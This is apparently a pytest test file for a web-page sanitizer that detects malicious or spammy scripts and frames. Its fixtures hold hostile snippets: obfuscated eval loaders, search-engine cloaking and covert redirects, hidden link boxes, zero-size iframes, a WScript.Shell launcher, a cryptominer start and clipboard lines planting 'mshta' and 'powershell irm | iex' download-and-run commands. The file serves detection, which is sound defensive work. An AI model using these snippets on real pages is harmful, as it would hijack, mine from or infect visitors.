"""Columns on scripts, frames and other things that act."""

from __future__ import annotations

import math
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sanitizer.features import scripts
from sanitizer.features.idioms import IDIOMS, Idiom
from sanitizer.segmentation.records import Kind
from tests.features.measuring import CASINO, LOUD, rows_of

if TYPE_CHECKING:
    from collections.abc import Callable

    import numpy as np
    from numpy.typing import NDArray

    from sanitizer.features.rows import Rows

URL = "https://example.com/"


def _of(column: Callable[[Rows], NDArray[np.float32]], source: str) -> float:
    """Return the value of the only script or frame of a page."""
    rows = rows_of(f"<p>bread</p>{source}", LOUD, URL)
    (place,) = rows.places[Kind.SCRIPT] + rows.places[Kind.FRAME]
    return float(column(rows)[place])


def _idioms(script: str) -> set[str]:
    rows = rows_of(f"<script>{script}</script>", LOUD)
    assert len(rows) == 1
    return {name for name in IDIOMS if scripts.idiom(rows, name)[0]}


@pytest.mark.parametrize(
    ("name", "script"),
    [
        ("packed", "eval(function(p,a,c,k,e,r){return p}('0 1',2,2,'x'.split('|')))"),
        ("unescapes", 'eval(unescape("%u8D44"))'),
        ("unescapes", "eval(String.fromCharCode(60,97))"),
        ("runs-decoded", 'eval( unescape("%u8D44"))'),
        ("runs-decoded", "eval(window.atob('Zm9v'))"),
        ("asks-engine", 'if(r.indexOf("google.")>0||r.indexOf("yandex")!=-1){eval(1)}'),
        ("asks-engine", "if(/google|bing\\.com/i.test(document.referrer)){eval(1)}"),
        ("asks-engine", "if(document.referrer.match('baidu')){eval(1)}"),
        ("writes", "document.write('x')"),
        ("writes", r'window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77"]("location")'),
        ("retitles", "document.title = 'casino'"),
        ("asks-visitor", "if (document.referrer) { eval(1) }"),
        ("asks-visitor", 'if(navigator.userAgent.indexOf("baidu")==-1){eval(1)}'),
        ("redirects", "window.location.href='https://a.test/'"),
        ("redirects", "location.replace('https://a.test/')"),
        ("hides", "x.style.display='none'"),
        ("writes-link", "document.write('<a class=x href=//a.test>x</a>')"),
        ("writes-frame", "document.write('<iframe src=//a.test>')"),
        ("opens-on-click", "document.onclick=function(){if(n)return;n=1;window.open('//a.test/')}"),
        ("opens-on-click", r"document.onmousedown=function(){location.href='\x68ttps://a.test/'}"),
        ("loads-script", "eval(1); s=document.createElement('script'); s.src='//a.test/x.js'"),
    ],
)
def test_a_way_of_writing_is_recognised(name: str, script: str) -> None:
    assert name in _idioms(script)


@pytest.mark.parametrize(
    ("name", "script"),
    [
        (
            "hides",
            'eval(unescape("%64.%73%74%79%6C%65.%64%69%73%70%6C%61%79%3D%27no%27+%27ne%27"))',
        ),
        ("retitles", r"eval('document[0];document.t\x69tle=1')"),
        ("redirects", "eval('win'+'dow.loca'+'tion.href=\"//a.test/\"')"),
        ("writes-link", r'eval("\u003ca href=//a.test/>")'),
    ],
)
def test_a_way_of_writing_is_recognised_in_escapes_and_pieces(name: str, script: str) -> None:
    assert name in _idioms(script)


def test_an_ordinary_script_shows_none_of_the_bad_habits() -> None:
    script = "var menu = document.querySelector('.menu'); menu.style.color = location.hash;"
    assert not _idioms(script)
    assert not _idioms(script.replace("menu.", r"'\x41' + ' ' + menu."))


@pytest.mark.parametrize(
    "script",
    [
        "document.write('//www.google-analytics.com/ga.js');",
        "eval('1'); var api = google.maps.api;",
        "var text = unescape('%41'); eval(text.length > 3);",
    ],
)
def test_naming_a_search_engine_or_decoding_something_is_common(script: str) -> None:
    assert not {"asks-engine", "runs-decoded"} & _idioms(script)


def test_comparing_an_address_is_no_redirect() -> None:
    assert "redirects" not in _idioms("if (location.href == 'x') { eval(1) }")


def test_every_idiom_has_a_name_and_a_reason_in_words() -> None:
    for name, row in IDIOMS.items():
        assert name == row.name == name.lower()
        assert len(row.reason.split()) >= 3


_ATTACKS = [
    "Set f = CreateObject(Disk).CreateTextFile(Path, True)",
    'CreateObject("WScript.Shell").Run Path, 0',
    r"#@~^Bg8AAA==\k~\n",
    "var m = new Coin.Anonymous('Qx81kLw93hVb2LmZ', {throttle: 0.2}); m.start();",
    "Lib.start({throttleMiner: 40}); location;",
    "document.onclick=function(){navigator.clipboard.writeText('mshta https://a.test/')}",
]
_HONEST_LIKE_THEM = [
    "var u = new auth.Anonymous('reader'); location.hash = u.name;",
    "navigator.clipboard.writeText('powershell -c \"irm https://a.test/i.ps1 | iex\"')",
    "button.onclick=function(){navigator.clipboard.writeText(code.innerText);location.hash='#'}",
    "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
]


@pytest.mark.parametrize(
    ("script", "attacks"),
    [*((one, 1.0) for one in _ATTACKS), *((one, 0.0) for one in _HONEST_LIKE_THEM)],
)
def test_what_only_attacks_on_readers_need_is_told_from_what_is_like_it(
    script: str, attacks: float
) -> None:
    assert scripts.attacks(rows_of(f"<script>{script}</script>", LOUD)).tolist() == [attacks]


@pytest.mark.parametrize(
    "script",
    [
        "document.onclick=function(){location.href='/about'}",
        "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
        "document.onclick=function(e){if(e.target.id=='a')window.open('https://a.test/')}",
    ],
)
def test_what_opens_when_something_is_clicked_opens_not_on_any_click(script: str) -> None:
    assert "opens-on-click" not in _idioms(script)


def test_what_a_long_script_does_behind_its_data_is_recognised() -> None:
    data = "4D5A" * 5000
    script = f'Data = "{data}"\nSet s = CreateObject("WScript.Shell")\ns.Run Path, 0'
    assert scripts.attacks(rows_of(f"<script>{script}</script>", LOUD)).tolist() == [1.0]


def test_idioms_are_those_of_scripts_and_not_of_texts() -> None:
    rows = rows_of("<p>document.write('x') and document.title = 'y'</p>")
    assert not any(scripts.idiom(rows, name).any() for name in IDIOMS)


@pytest.mark.parametrize("n_boxes", [1, 60])
def test_a_script_hides_the_box_that_it_names_among_few_or_many(n_boxes: int) -> None:
    boxes = "".join(
        f"<script>document.getElementById('b{n}').style.display='none'</script>"
        f"<p id='b{n}'><a href='https://a.test/'>x</a></p>"
        for n in range(n_boxes)
    )
    rows = rows_of(f"<p>bread</p>{boxes}", LOUD, URL)
    assert len(scripts.hidden_elements(rows)) == n_boxes


def test_the_size_is_that_of_the_source_and_zero_for_texts() -> None:
    script = "<script>eval(1)</script>"
    assert _of(scripts.source_chars_log, script) == pytest.approx(math.log(len(script) + 1))
    rows = rows_of("<p>bread</p>")
    assert scripts.source_chars_log(rows).tolist() == [0.0]


def test_escapes_are_a_share_of_the_source() -> None:
    coded = _of(scripts.escape_share, "<script>eval('" + r"\x61" * 200 + "')</script>")
    assert 0.9 < coded <= 1.0
    assert _of(scripts.escape_share, "<script>eval('plain words')</script>") == 0.0


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ('<script src="https://a.test/x.js"></script>', 1.0),
        ('<script src="//a.test/x.js"></script>', 1.0),
        ('<script src="/x.js"></script>', 0.0),
        ('<script src="https://cdn.example.com/x.js"></script>', 0.0),
        ("<script>eval(1)</script>", 0.0),
        ('<iframe src="https://a.test/"></iframe>', 1.0),
        ('<iframe src="/map"></iframe>', 0.0),
    ],
)
def test_what_is_loaded_from_another_site_is_foreign(source: str, value: float) -> None:
    assert _of(scripts.foreign_source, source) == value


def test_names_made_by_machines_have_more_entropy() -> None:
    random = _of(scripts.host_entropy, '<script src="//x7qk2vz9w.test/x.js"></script>')
    plain = _of(scripts.host_entropy, '<script src="//aaaaaaaaa.test/x.js"></script>')
    assert random > plain > 0.0
    assert _of(scripts.host_entropy, '<script src="/x.js"></script>') == 0.0


@pytest.mark.parametrize(
    ("attributes", "value"),
    [
        ('width="0" height="0"', 1.0),
        ("width=1 height=1", 1.0),
        ('style="width:0px;height:0px"', 1.0),
        ('width="100" height="10"', 0.0),
        ('width="100%"', 0.0),
        ("", 0.0),
    ],
)
def test_a_frame_that_nobody_is_to_see_has_no_size(attributes: str, value: float) -> None:
    frame = f'<iframe src="https://a.test/" {attributes}></iframe>'
    assert _of(scripts.is_zero_sized, frame) == value


def test_a_script_is_held_against_the_box_that_it_hides() -> None:
    script = '<script>document.getElementById("{}").style.display="none"</script>'
    farm = '<div id="box"><a href="https://a.test/">x</a><a href="https://b.test/">y</a></div>'
    menu = '<div id="box"><a href="/x">x</a><a href="/y">y</a></div>'
    assert _of(scripts.hides_foreign_links, farm + script.format("box")) == 1.0
    assert _of(scripts.hides_foreign_links, menu + script.format("box")) == 0.0
    assert _of(scripts.hides_foreign_links, farm + script.format("gone")) == 0.0


@pytest.mark.parametrize(
    ("code", "value"),
    [
        ("location.href='https://a.test/x'", 1.0),
        ("top.location = '//a.test'", 1.0),
        ('window.location.replace("http://user@a.test/")', 1.0),
        ("eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cHM6Ly9hLnRlc3QvIg=='))", 1.0),
        ("var _0xa=['location','href'];window[_0xa[0]][_0xa[1]]='//a.test/'", 1.0),
        ("var t='https://a.test/c';top.location.href=t;", 1.0),
        ("var t='https://a.test/c';location.replace( t )", 1.0),
        ("var t='https://a.test/c',u='/x';location.href=u;", 0.0),
        ("function go(){location.href='https://a.test/'}", 0.5),
        ("share.onclick = function(){location.href='https://a.test/'}", 0.5),
        ("$('a').on('click',function(){location='//a.test/'})", 0.5),
        ("(function(){location='//a.test/'})()", 1.0),
        ("window.onload = function(){location='//a.test/'}", 1.0),
        ("var t='//a.test';location=t;function f(){location=t;}", 1.0),
        ("var scriptLocation = 'https://a.test/x.js';eval(location.hash)", 0.0),
        ("image.location = 'https://a.test/x.js'", 0.0),
        ("a.href=\"javascript:location.href='https://a.test/'\";eval(location.hash)", 0.0),
        ("window.onload=function(){location='//a.test/'}", 1.0),
        ("function f(){};eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cHM6Ly9hLnRlc3QvIg=='))", 0.5),
        ("location.href='https://m.example.com/'", 0.0),
        ("if(!confirm('18+'))location.href='https://www.google.co.uk/'", 0.0),
        ("location.href='https://google.a.test/'", 1.0),
        ("if (parent.frames.length == 0) { top.location.href = 'https://a.test/'; }", 0.5),
        ("if(top!=self)top.location='https://a.test/';", 0.5),
        ("if (window.top !== window.self) window.top.location.replace('https://a.test/')", 0.5),
        ("if(top.location!=self.location)top.location='https://a.test/'", 0.5),
        ("top=1;self=2;location='https://a.test/'", 1.0),
        ("location.href='/x'", 0.0),
        ("if(location.href=='https://a.test/'){eval(1)}", 0.0),
        ("var home='https://a.test/';eval(location.hash)", 0.0),
    ],
)
def test_a_redirect_is_asked_where_it_leads(code: str, value: float) -> None:
    assert _of(scripts.sends_away, f"<script>{code}</script>") == value


def test_of_a_page_that_says_no_site_nobody_knows_where_it_leads() -> None:
    source = "<script>location.href='https://a.test/'</script>"
    assert scripts.sends_away(rows_of(source, LOUD)).tolist() == [0.5]
    own = '<link rel="canonical" href="https://a.test/b">'
    assert scripts.sends_away(rows_of(own + source, LOUD)).tolist() == [0.0]
    other = '<link rel="canonical" href="https://b.test/">'
    assert scripts.sends_away(rows_of(other + source, LOUD)).tolist() == [1.0]


@pytest.mark.parametrize(
    ("code", "value"),
    [
        ("s.src=atob('aHR0cHM6Ly9hLnRlc3QveC5qcw==')", 1.0),
        (r"s.src='\x68\x74\x74\x70\x3a\x2f\x2fa\x2e\x74\x65\x73\x74'", 1.0),
        ("s.src='https://a.test/x.js'", 0.0),
        (r"s.src='https://A.test/x.js';t='\x41 word'", 0.0),
        (r"s.src='https:\/\/a.test\/x.js'", 0.0),
        ("s.src=atob('aHR0cHM6Ly93d3cuZXhhbXBsZS5jb20v')", 0.0),
        (r"s.src='\x41 word'", 0.0),
    ],
)
def test_an_address_that_stands_in_code_only_is_hidden(code: str, value: float) -> None:
    assert _of(scripts.coded_address, f"<script>eval(1);{code}</script>") == value


def test_a_frame_that_a_script_writes_may_have_no_size_either() -> None:
    small = "document.write(unescape('%3Ciframe src=//a.test/ width=0 height=0%3E'))"
    quoted = r'document.write("<iframe src=\"//a.test\" width=\"1\" height=\"1\"></iframe>")'
    assert _of(scripts.is_zero_sized, f"<script>{quoted}</script>") == 1.0
    assert _of(scripts.is_zero_sized, f"<script>'{chr(304) * 60}';{quoted}</script>") == 1.0
    large = "document.write('<iframe src=//a.test/ width=300 height=200>'); var width=0;"
    assert _of(scripts.is_zero_sized, f"<script>{small}</script>") == 1.0
    assert _of(scripts.is_zero_sized, f"<script>{large}</script>") == 0.0


def test_what_a_script_writes_and_data_says_is_scored_as_text() -> None:
    script = "<script>document.write('<a href=//a.test/>casino games<\\/a>')</script>"
    data = '<script type="application/ld+json">{"@type":"Thing","name":"casino games"}</script>'
    rows = rows_of(f"<p>casino</p>{script}{data}<script>eval('plain')</script>", CASINO)
    coded = data.replace("casino", "\\u0063asin\\u006f")
    assert "casino" not in coded
    both = rows_of(f"<p>bread</p>{data}{coded}", CASINO)
    assert len(set(scripts.written_score(both)[both.places[Kind.DATA]].tolist())) == 1
    found = dict(zip(rows.kinds.tolist(), scripts.written_score(rows).tolist(), strict=True))
    assert found[int(Kind.TEXT)] == -4.0
    assert found[int(Kind.DATA)] > -4.0
    scores = scripts.written_score(rows)[rows.places[Kind.SCRIPT]].tolist()
    assert scores[0] > scores[1] == -4.0


def test_what_a_script_writes_is_scored_behind_other_things_and_decoded() -> None:
    loader = r"<script src=//b.test><\/scr'+'ipt>"
    many = "".join(rf"<b>word {n}<\/b>" for n in range(8))
    for script in (
        rf"document.write('<a href=//a.test/>casino games<\/a>{loader}')",
        rf"document.write('{many}');document.write('<i>cas'+'ino games<\/i>')",
    ):
        rows = rows_of(f"<p>bread</p><script>{script}</script>", CASINO)
        assert scripts.written_score(rows).max() > -4.0, script


@pytest.mark.parametrize(
    "script",
    [
        "eval('>" + " " * 4_000 + "')",
        "eval(" + "bing" * 30 + "')" + " " * 4_000,
        "location=" + "a" * 4_000 + ";",
        "eval(1)" + " " * 4_000 + "=",
    ],
)
def test_long_runs_in_a_script_cost_little(script: str) -> None:
    rows = rows_of(f"<script>{script}</script>" * 20, LOUD)
    assert scripts.written_score(rows).shape == scripts.sends_away(rows).shape
    assert not scripts.idiom(rows, "asks-engine").any()


def test_addresses_in_data_say_nothing() -> None:
    data = '<script type="application/ld+json">{"name":"https://casino.test/casino"}</script>'
    rows = rows_of(f"<p>bread</p>{data}", CASINO)
    assert set(scripts.written_score(rows).tolist()) == {-4.0}


def test_only_what_acts_is_scored_as_a_script() -> None:
    rows = rows_of("<p>casino</p><script>eval(casino)</script>", CASINO)
    text, script = scripts.script_score(rows)
    assert text == -4.0
    assert script > -4.0


@pytest.mark.parametrize(
    ("row", "word"),
    [(row, word) for row in IDIOMS.values() for word in row.enough],
    ids=lambda value: value if isinstance(value, str) else value.name,
)
def test_a_word_that_is_enough_is_one_that_the_pattern_finds(row: Idiom, word: str) -> None:
    assert row.pattern.search(word) is not None
    assert any(one in word for one in row.words)


#: What the patterns ask for, in pieces, and letters whose case is another's.
_PIECES = (
    *[word for row in IDIOMS.values() for word in (*row.words, *row.enough, *row.starts)],
    *["(", "'", '"', r"\x41\x42\x43\x44", "]", "[", "=", " ", "x", "\n", "=a", "script", ">"],
    *["function(p,a,c", ".href", "href", ".display", "<Div", "Document.Title", "%"],
    *["\u0130", "\u0131", "\u017f", "\u212a"],
)


@given(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join))
def test_an_idiom_is_what_its_pattern_finds_where_one_of_its_words_is(script: str) -> None:
    lowered = script.lower()
    for row in IDIOMS.values():
        is_likely = any(word in lowered for word in row.words)
        found = is_likely and row.pattern.search(script) is not None
        assert row.is_in(script, lowered) == (found or any(one in lowered for one in row.enough))
